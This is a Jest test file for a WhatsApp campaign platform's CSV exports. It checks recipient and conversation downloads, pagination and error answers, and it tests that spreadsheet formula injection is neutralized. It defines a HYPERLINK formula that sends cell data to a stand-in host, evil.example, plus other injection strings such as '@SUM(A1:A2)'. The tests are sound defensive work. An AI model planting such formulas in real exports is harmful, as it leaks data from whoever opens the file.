/**
 * The CSV downloads through the local runtime (DEV mode): a campaign's recipients after it has sent (one
 * of them failed by a status webhook), with a hostile variable neutralized for spreadsheets; a
 * 2,500-recipient draft read across pages; a conversation's messages in order, hostile texts included;
 * and the error answers (unknown campaign or contact, an invalid contact, no key).
 */
import { parse } from 'csv-parse/sync';
import { inboundWebhook } from '../../bin/simulate';
import { neutralizeCell } from '../../functions/domain/csv-cells';
import { statusWebhook } from '../../local/dev-status-simulator';
import {
  action,
  allRecipients,
  createCampaign,
  createTemplate,
  getCampaign,
  waitForState,
} from '../support/campaign-api';
import { asUser, newUser } from '../support/console-session';
import { bootPlatform, type TestPlatform } from '../support/platform';
import { phoneNumber, waitFor } from '../support/wait';
import { postSignedWebhook } from '../support/webhooks';

const SECRET = 'csv-exports-secret';
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click me")';

type Row = Record<string, string>;

/** The download's rows by header, after checking it is a CSV attachment (with Excel's byte order mark). */
async function csvOf(
  res: Response,
  filename: string,
): Promise<{ rows: Row[]; header: string[]; raw: string }> {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${filename}"`);
  // Streamed: the length is not known when the answer starts.
  expect(res.headers.get('content-length')).toBeNull();
  const raw = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  expect(raw.charCodeAt(0)).toBe(0xfeff);
  const records = parse(raw, { bom: true }) as string[][];
  const [header, ...body] = records;
  return {
    header: header!,
    rows: body.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
    raw,
  };
}

async function expectError(res: Response, status: number, code: string) {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  const body = (await res.json()) as { error: { code: string; message: string } };
  expect(body.error.code).toBe(code);
  expect(body.error.message.length).toBeGreaterThan(0);
}

describe('CSV exports', () => {
  jest.setTimeout(120_000);
  let p: TestPlatform;
  let welcomeId: string;

  const hook = (payload: unknown) => postSignedWebhook(p.url, payload, SECRET);

  beforeAll(async () => {
    p = await bootPlatform({
      WHATSAPP_APP_SECRET: SECRET,
      ASSISTANT_COALESCE_SECONDS: '1',
      SEND_RATE_PER_SECOND: '1000',
    });
    welcomeId = await createTemplate(p, { name: 'welcome', body: 'Hello {{customerName}}!' });
  }, 90_000);
  afterAll(async () => {
    await p?.stop();
  });

  describe("a campaign's recipients", () => {
    const phones = [0, 1, 2].map((i) => phoneNumber(8100 + i));
    let campaignId: string;

    beforeAll(async () => {
      const campaign = await createCampaign(p, {
        name: 'export me',
        templateId: welcomeId,
        recipients: [
          { phone: phones[0], variables: { customerName: HYPERLINK, city: 'Köln' } },
          { phone: phones[1], variables: { customerName: 'Müller, "Anna"', status: 'vip' } },
          { phone: phones[2], variables: { customerName: '-2' } },
        ],
      });
      campaignId = campaign.id;
      expect((await action(p, campaignId, 'start')).status).toBe(200);
      await waitForState(p, campaignId, 'completed');
      // WhatsApp reports the third one failed.
      const third = (await allRecipients(p, campaignId)).find((r) => r.phone === phones[2])!;
      const failed = statusWebhook({
        wamid: third.wamid!,
        status: 'sent',
        to: third.phone,
        phoneNumberId: '1',
      }) as {
        entry: { changes: { value: { statuses: Record<string, unknown>[] } }[] }[];
      };
      Object.assign(failed.entry[0]!.changes[0]!.value.statuses[0]!, {
        status: 'failed',
        errors: [{ code: 131026, title: 'Message undeliverable', message: 'Message undeliverable' }],
      });
      await hook(failed);
      await waitFor(async () => ((await getCampaign(p, campaignId)).counts.failed === 1 ? true : undefined));
    });

    it('downloads every recipient with status, each variable in a column, and the hostile cell neutralized', async () => {
      const { header, rows, raw } = await csvOf(
        await p.api(`/api/campaigns/${campaignId}/recipients.csv`),
        `campaign-${campaignId}-recipients.csv`,
      );
      expect(header).toEqual([
        'phone',
        'status',
        'customerName',
        'city',
        'variables.status',
        'errorCode',
        'errorTitle',
        'skipReason',
        'attempts',
        'updatedAt',
        'wamid',
      ]);
      expect(rows.map((r) => r.phone).sort()).toEqual([...phones].sort());
      const byPhone = new Map(rows.map((r) => [r.phone, r]));

      // The formula arrives as text: a leading quote, and quoted in the file so nothing can split it.
      expect(byPhone.get(phones[0])).toMatchObject({
        customerName: `'${HYPERLINK}`,
        city: 'Köln',
        status: 'sent',
      });
      expect(raw).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click me"")"`);
      expect(byPhone.get(phones[1])).toMatchObject({
        customerName: 'Müller, "Anna"',
        'variables.status': 'vip',
        city: '',
      });
      expect(byPhone.get(phones[2])).toMatchObject({
        customerName: "'-2",
        status: 'failed',
        errorCode: '131026',
        errorTitle: 'Message undeliverable',
      });
      // Phone numbers stay as E.164, without a quote.
      expect(raw).toContain(`\r\n${phones[0]},sent,`);

      // The same as the JSON recipients say.
      for (const r of await allRecipients(p, campaignId)) {
        const row = byPhone.get(r.phone)!;
        expect(row).toMatchObject({ status: r.status, attempts: String(r.attempts), wamid: r.wamid });
        expect(row.wamid).toMatch(/^wamid\./);
        expect(row.updatedAt).toBe((r as unknown as { updatedAt: string }).updatedAt);
      }
    });

    it('takes a status filter, and a console session as well as an API key', async () => {
      const { rows } = await csvOf(
        await p.api(`/api/campaigns/${campaignId}/recipients.csv?status=failed`),
        `campaign-${campaignId}-recipients.csv`,
      );
      expect(rows.map((r) => r.phone)).toEqual([phones[2]]);

      const agent = await newUser(p, { email: 'exporter@example.com', name: 'Eve Exporter', role: 'agent' });
      const asAgent = await asUser(p.url, agent, `/api/campaigns/${campaignId}/recipients.csv`);
      expect((await csvOf(asAgent, `campaign-${campaignId}-recipients.csv`)).rows).toHaveLength(3);
    });

    it('reads a 2,500-recipient campaign across pages, each recipient once', async () => {
      const n = 2500;
      const big = await createCampaign(p, {
        name: 'big draft',
        templateId: welcomeId,
        recipients: Array.from({ length: n }, (_, i) => ({
          phone: phoneNumber(30_000 + i),
          variables: { customerName: i % 100 === 0 ? `@SUM(A${i})` : `Customer ${i}` },
        })),
      });
      const { rows } = await csvOf(
        await p.api(`/api/campaigns/${big.id}/recipients.csv`),
        `campaign-${big.id}-recipients.csv`,
      );
      expect(rows).toHaveLength(n);
      expect(new Set(rows.map((r) => r.phone)).size).toBe(n);
      expect(rows.every((r) => r.status === 'queued' && r.attempts === '0' && r.wamid === '')).toBe(true);
      expect(rows.filter((r) => r.customerName!.startsWith("'@SUM(")).length).toBe(n / 100);
    });

    it('answers 404 for an unknown campaign and 401 without a key, as JSON errors', async () => {
      await expectError(await p.api('/api/campaigns/no-such-campaign/recipients.csv'), 404, 'not_found');
      await expectError(
        await fetch(`${p.url}/api/campaigns/${campaignId}/recipients.csv`),
        401,
        'unauthorized',
      );
      await expectError(
        await p.api(`/api/campaigns/${campaignId}/recipients.csv?status=lost`),
        400,
        'validation_failed',
      );
    });
  });

  describe("a conversation's messages", () => {
    const phone = phoneNumber(8201);
    const path = `/api/conversations/${encodeURIComponent(phone)}`;
    const texts = [
      'I want to talk to a person',
      HYPERLINK,
      '@SUM(A1:A2)',
      '+1+1',
      'Hello, "friend"\nsecond line',
      'Grüße aus Köln 👋',
    ];
    type Message = {
      wamid: string;
      direction: string;
      type: string;
      text?: string;
      summary: string;
      at: string;
      source?: string;
      agent?: { name: string };
      delivery?: { status: string };
    };
    const thread = async () =>
      ((await (await p.api(`${path}/messages?limit=100`)).json()) as { items: Message[] }).items;

    beforeAll(async () => {
      // One second apart, so the conversation's order is the order they were written in.
      const start = Date.now() - 60_000;
      for (const [i, text] of texts.entries())
        await hook(inboundWebhook({ from: phone, text, at: new Date(start + i * 1000) }));
      // The first asks for a person: the platform says so, and the assistant stays quiet after.
      await waitFor(
        async () => ((await thread()).some((m) => m.source === 'system') ? true : undefined),
        20_000,
        'the handoff notice',
      );
      const agent = await newUser(p, { email: 'bea@example.com', name: 'Bea Agent', role: 'agent' });
      const reply = await asUser(p.url, agent, `${path}/messages`, {
        method: 'POST',
        json: { text: '-1 is not a price; =1+1 neither' },
      });
      expect(reply.status).toBe(202);
      await waitFor(
        async () => {
          const all = await thread();
          return all.filter((m) => m.direction === 'in').length === texts.length &&
            all.some((m) => m.source === 'agent' && m.delivery?.status === 'sent')
            ? true
            : undefined;
        },
        20_000,
        'every message, and the reply sent',
      );
    });

    it('downloads the messages in order: time, direction, type, text, status, wamid, source and agent', async () => {
      const { header, rows } = await csvOf(
        await p.api(`${path}/messages.csv`),
        `conversation-${phone.slice(1)}-messages.csv`,
      );
      expect(header).toEqual(['at', 'direction', 'type', 'text', 'status', 'wamid', 'source', 'agent']);
      const json = await thread();
      expect(rows).toEqual(
        json.map((m) => ({
          at: m.at,
          direction: m.direction,
          type: m.type,
          text: neutralizeCell(m.text ?? m.summary),
          status: m.delivery?.status ?? '',
          wamid: m.wamid,
          source: m.source ?? '',
          agent: m.agent?.name ?? '',
        })),
      );
      // The customer's messages come in the order they were written, hostile ones as text.
      expect(rows.filter((r) => r.direction === 'in').map((r) => r.text)).toEqual([
        'I want to talk to a person',
        `'${HYPERLINK}`,
        "'@SUM(A1:A2)",
        "'+1+1",
        'Hello, "friend"\nsecond line',
        'Grüße aus Köln 👋',
      ]);
      expect(rows.find((r) => r.source === 'agent')).toMatchObject({
        direction: 'out',
        text: "'-1 is not a price; =1+1 neither",
        status: 'sent',
        agent: 'Bea Agent',
      });
      // The + may be left out of the number, as in the other conversation routes.
      const bare = await p.api(`/api/conversations/${phone.slice(1)}/messages.csv`);
      expect((await csvOf(bare, `conversation-${phone.slice(1)}-messages.csv`)).rows).toHaveLength(
        rows.length,
      );
    });

    it('answers 404 for a contact without a conversation and 400 for something that is no contact', async () => {
      await expectError(
        await p.api(`/api/conversations/${encodeURIComponent(phoneNumber(8299))}/messages.csv`),
        404,
        'not_found',
      );
      await expectError(await p.api('/api/conversations/not-a-phone/messages.csv'), 400, 'validation_failed');
    });
  });
});
